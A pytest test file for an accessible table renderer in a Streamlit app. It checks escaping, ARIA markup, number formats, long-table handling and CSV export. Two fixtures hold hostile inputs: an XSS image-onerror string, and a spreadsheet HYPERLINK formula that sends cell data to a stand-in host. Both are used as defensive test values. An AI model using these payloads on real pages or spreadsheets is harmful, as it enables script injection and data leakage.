"""Tables for screen readers: markup, numbers as they are shown, long tables, and the choice of a chunk."""

import csv
import io

import numpy as np
import pytest
import streamlit as st

from tests.apps import app_of, tables
from ui.tables import FOLDED, MAX_ROWS_SHOWN, NOTHING, rows_csv, table_html, value_text

EVIL = '<img src=x onerror="alert(1)"> & | *bold* $x$'
NUMBER = st.column_config.NumberColumn


def test_all_text_is_escaped():
    html = table_html([{EVIL: EVIL}], EVIL, {EVIL: NUMBER(EVIL, help=EVIL)})
    assert "<img" not in html
    assert (
        html.count("&lt;img") == 7
    )  # name of the region, caption, header, tooltip, cell, help and its label


def test_a_table_names_its_columns_and_rows_and_explains_columns_without_a_mouse():
    rows = [{"Word": "mill", "IDF": 1.5}, {"Word": "the", "IDF": 0.25}]
    html = table_html(rows, "Words by weight", {"IDF": NUMBER("Weight", format="%.1f", help="Rare is more.")})
    assert 'role="region" aria-label="Words by weight" tabindex="0"' in html
    assert "<caption>Words by weight</caption>" in html
    assert '<th scope="col">Word</th>' in html
    assert '<th scope="col" class="number" title="Rare is more.">Weight</th>' in html
    assert '<th scope="row" dir="auto">mill</th><td class="number">1.5</td>' in html
    assert "<dt>Weight</dt><dd>Rare is more.</dd>" in html
    assert "<details" not in table_html(rows, "Words by weight")


@pytest.mark.parametrize(
    ("value", "number_format", "text"),
    [
        (0.12345, None, "0.123"),
        (np.float32(0.5), "%+.3f", "+0.500"),
        (np.int64(12345), None, "12,345"),
        (12345, "localized", "12,345"),
        (63.66, "%.1f %%", "63.7 %"),
        (0.6366, "percent", "63.7%"),
        (None, "%.3f", NOTHING),
        (float("nan"), "%.3f", NOTHING),
        ("", None, ""),
        (True, None, "True"),
    ],
)
def test_values_have_the_format_of_their_column(value, number_format, text):
    assert value_text(value, NUMBER(format=number_format)) == text


def test_a_long_text_is_folded_and_none_of_it_lost():
    text = "".join(f"{number}, " for number in range(200))
    html = table_html([{"Text": "short", "Whole": text}], "Texts")
    assert f"<summary>{text[:FOLDED]}…</summary>…{text[FOLDED:]}</details>" in html


def test_a_share_is_a_bar_too_and_stays_inside_it():
    column = st.column_config.ProgressColumn(format="%.2f", min_value=0.0, max_value=1.0)
    html = table_html([{"Share": 0.25}, {"Share": 1.5}], "Shares", {"Share": column})
    assert "width:25%" in html
    assert "width:100%" in html


def drawn(n_rows):
    from ui.tables import show_table

    show_table([{"Number": number, "Square": number**2} for number in range(n_rows)], "Squares")


@pytest.mark.parametrize("n_rows", [0, MAX_ROWS_SHOWN, MAX_ROWS_SHOWN + 1])
def test_a_long_table_is_a_grid_with_its_numbers_to_take_away(n_rows):
    app = app_of(drawn, args=(n_rows,)).run()
    is_long = n_rows > MAX_ROWS_SHOWN
    assert (len(app.get("download_button")), len(app.dataframe)) == (is_long, is_long)
    squares = [number**2 for number in range(n_rows)]
    assert [table["Square"].tolist() for table in tables(app)] == ([squares] if n_rows else [])


def test_a_csv_has_every_column_that_any_row_has_and_formulas_as_text():
    rows = [{"@a": '=HYPERLINK("http://x/?"&A1)', "b": -0.5}, {"b": " +1"}]
    assert list(csv.reader(io.StringIO(rows_csv(rows)))) == [
        ["'@a", "b"],
        ["'" + rows[0]["@a"], "-0.5"],
        ["", "' +1"],
    ]
    rows = [{"a": 1, "b": "x,\ny"}, {"a": 2, "c": None}]
    assert list(csv.reader(io.StringIO(rows_csv(rows)))) == [
        ["a", "b", "c"],
        ["1", "x,\ny", ""],
        ["2", "", ""],
    ]
